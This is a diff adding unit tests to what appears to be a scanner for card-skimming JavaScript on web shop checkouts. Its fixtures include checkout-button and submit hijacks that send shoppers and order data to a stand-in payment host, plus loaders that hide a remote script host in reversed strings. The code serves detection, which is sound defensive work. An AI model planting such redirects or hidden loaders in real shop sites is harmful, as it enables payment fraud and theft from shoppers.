@@ -122,3 +122,72 @@ describe('names spelled through branches decided in place', () => {
     expect(rules(source)).not.toContain('dynamic-code-from-decoded')
   })
 })
+
+describe('the shopper sent from the checkout to a payment page on another host', () => {
+  const points = (source: string): number | undefined =>
+    analyzeScript(source).findings.find((f) => f.rule === 'checkout-redirect')?.points
+  const to = (host: string): string =>
+    `'https://${host}/pay?shop=' + encodeURIComponent(location.hostname) + '&t=' + btoa(total())`
+  it("rewriting the place-order button's onclick to such a redirect", () => {
+    const source = `jQuery('#onestepcheckout-place-order').attr('onclick', 'go()'); function go() { location.href = ${to('pay-secure.example')} }`
+    expect(points(source)).toBe(60)
+  })
+  it('a submit handler that cancels the checkout and navigates away', () => {
+    const source = `document.addEventListener('submit', function (e) { e.preventDefault(); var u = ${to('pay-secure.example')}; window.location.replace(u) }, !0); document.querySelector('#place_order')`
+    expect(points(source)).toBe(60)
+  })
+  it('checkout controls named elsewhere in the file: weaker', () => {
+    const source = `var b = document.querySelector('#place_order'); setTimeout(function () { location.assign(${to('pay-secure.example')}) }, 9)`
+    expect(points(source)).toBe(40)
+  })
+  const innocent: [string, string][] = [
+    [
+      "the payment processor's hosted page",
+      `document.querySelector('#place_order').addEventListener('click', function () { location.href = ${to('www.mollie.com')} })`,
+    ],
+    [
+      'a fixed address',
+      `document.querySelector('#place_order').addEventListener('click', function () { location.href = 'https://help.example/checkout' })`,
+    ],
+    [
+      'no checkout in sight',
+      `document.querySelector('.share').onclick = function () { location.href = ${to('social.example')} }`,
+    ],
+    [
+      'a page of the shop itself',
+      `document.querySelector('#place_order').addEventListener('click', function () { location.href = '/checkout/pay?t=' + btoa(total()) })`,
+    ],
+  ]
+  for (const [what, source] of innocent)
+    it(`${what}: no finding`, () => {
+      expect(points(source)).toBeUndefined()
+    })
+})
+
+describe('a loader whose script host the file never writes out', () => {
+  it('counts when the host is assembled from reversed pieces', () => {
+    const source = `if (/checkout/.test(location.pathname)) { var p = ['moc.eg', 'atsnit', '//:sptth'].join(''); document.write('<script src="' + p.split('').reverse().join('') + '/a.js"></script>') }`
+    expect(rules(source)).toEqual(
+      expect.arrayContaining(['hidden-checkout-loader', 'dynamic-code-from-decoded']),
+    )
+  })
+  it('not when the host is spelled in the open and only a query is computed', () => {
+    const source = `if (/checkout/.test(location.pathname)) document.write('<script src="https://tags.example/c.js?cfg=' + btoa(JSON.stringify(cfg)) + '"></script>')`
+    expect(rules(source)).not.toContain('hidden-checkout-loader')
+    expect(rules(source)).not.toContain('dynamic-code-from-decoded')
+  })
+})
+
+describe("Prototype's and MooTools' element factory", () => {
+  it("reads `new Element('script', { src })` as a script it adds", () => {
+    const host = [...'cdn-files.example'].reverse().join('')
+    const source = `if (/onepage|checkout/.test(location.href)) $$('head')[0].insert(new Element('script', { type: 'text/javascript', src: 'https://' + '${host}'.split('').reverse().join('') + '/s.js' }))`
+    expect(rules(source)).toEqual(
+      expect.arrayContaining(['hidden-checkout-loader', 'dynamic-code-from-decoded']),
+    )
+  })
+  it('an element made in the open, host spelled out, is no hidden loader', () => {
+    const source = `if (/checkout/.test(location.href)) $$('head')[0].insert(new Element('script', { src: 'https://cdn-files.example/s.js' }))`
+    expect(rules(source)).not.toContain('hidden-checkout-loader')
+  })
+})
